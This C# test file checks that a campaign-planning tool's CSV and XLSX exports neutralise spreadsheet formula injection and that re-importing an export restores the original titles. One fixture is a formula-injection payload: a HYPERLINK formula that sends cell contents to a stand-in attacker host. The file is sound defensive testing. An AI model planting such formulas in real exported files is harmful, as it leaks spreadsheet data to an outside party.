using System.IO.Compression;
using CampaignBot.Plans;
using CampaignBot.Security;
using CampaignBot.Tests.Support;
using Dapper;
using MiniExcelLibs;

namespace CampaignBot.Tests.Security;

/// <summary>
/// Issue 12, point 7: the CSV export wrote a title "=HYPERLINK(...)" as is, a live formula once the
/// file is opened. Now every text cell that a spreadsheet would run starts with a quote, and an
/// export imported again gives back the titles exactly, including ones that really start with '.
/// </summary>
public sealed class FormulaExportTests : IAsyncLifetime
{
    /// <summary>Titles as an attacker (or an honest planner) might write them, by task code.</summary>
    private static readonly Dictionary<string, string> Titles = new()
    {
        ["T001"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
        ["T002"] = "+86 138 0000 0000 联系人",
        ["T003"] = "-1+1",
        ["T004"] = "@SUM(A1:A9)",
        ["T005"] = "'单引号开头的标题",
        ["T006"] = "'=本来就带引号的公式",
        ["T007"] = "''两个引号",
        ["T008"] = "普通标题 = 不是公式",
    };

    private BotServices services = null!;

    public async Task InitializeAsync() => services = await BotServices.CreateAsync();

    public async Task DisposeAsync() => await services.DisposeAsync();

    [Theory]
    [InlineData("ledger.csv")]
    [InlineData("ledger.xlsx")]
    public async Task Export_FormulaTitles_AreWrittenAsText_AndImportGivesThemBack(string file)
    {
        await SetTitlesAsync(Titles);
        var path = Path.Combine(services.Database.Folder, file);
        Assert.Equal(0, (await OperatorRun.RunAsync(services.Provider, "export", path)).Code);

        var written = ExportedTitles(path);
        foreach (var (code, title) in Titles)
        {
            var expected = title[0] is '=' or '+' or '-' or '@' or '\'' ? "'" + title : title;
            Assert.Equal(expected, written[code]);
        }

        Assert.All(written.Values, t => Assert.False(t[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"a cell a spreadsheet would run: {t}"));
        if (file.EndsWith(".xlsx", StringComparison.Ordinal))
        {
            Assert.DoesNotContain("<f>", SheetXml(path));
        }

        // Someone edits titles in the ledger meanwhile; importing the export puts the originals back.
        await SetTitlesAsync(Titles.ToDictionary(t => t.Key, _ => "改过的标题"));
        var (importCode, output) = await OperatorRun.RunAsync(services.Provider, "import", path);
        Assert.True(importCode == 0, output);
        await using var connection = await services.Database.OpenAsync();
        var titles = (await connection.QueryAsync<(string Code, string Title)>("SELECT code, title FROM task WHERE code IN @Codes", new { Codes = Titles.Keys })).ToDictionary(t => t.Code, t => t.Title);
        Assert.Equal(Titles.OrderBy(t => t.Key), titles.OrderBy(t => t.Key));
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("'", "''")]
    [InlineData("", "")]
    [InlineData("1-1", "1-1")]
    public void Neutralise_ThenRestore_IsTheIdentity(string text, string neutralised)
    {
        Assert.Equal(neutralised, SpreadsheetText.Neutralise(text));
        Assert.Equal(text, SpreadsheetText.Restore(SpreadsheetText.Neutralise(text)));
    }

    [Fact]
    public void Restore_LeavesAHandWrittenQuoteBeforeOrdinaryText()
    {
        Assert.Equal("'abc", SpreadsheetText.Restore("'abc"));
    }

    private async Task SetTitlesAsync(IReadOnlyDictionary<string, string> titles)
    {
        await using var connection = await services.Database.OpenAsync();
        await connection.ExecuteAsync("UPDATE task SET title = @Title WHERE code = @Code", titles.Select(t => new { Code = t.Key, Title = t.Value }));
    }

    private static Dictionary<string, string> ExportedTitles(string path)
    {
        var rows = path.EndsWith(".csv", StringComparison.Ordinal)
            ? MiniExcel.Query(path, useHeaderRow: true, excelType: ExcelType.CSV)
            : MiniExcel.Query(path, useHeaderRow: true, sheetName: PlanColumns.TaskSheet);
        return rows.Cast<IDictionary<string, object?>>().ToDictionary(r => (string)r[PlanColumns.Code]!, r => (string)r[PlanColumns.Title]!);
    }

    private static string SheetXml(string path)
    {
        using var zip = ZipFile.OpenRead(path);
        return string.Concat(zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal)).Select(e => new StreamReader(e.Open()).ReadToEnd()));
    }
}
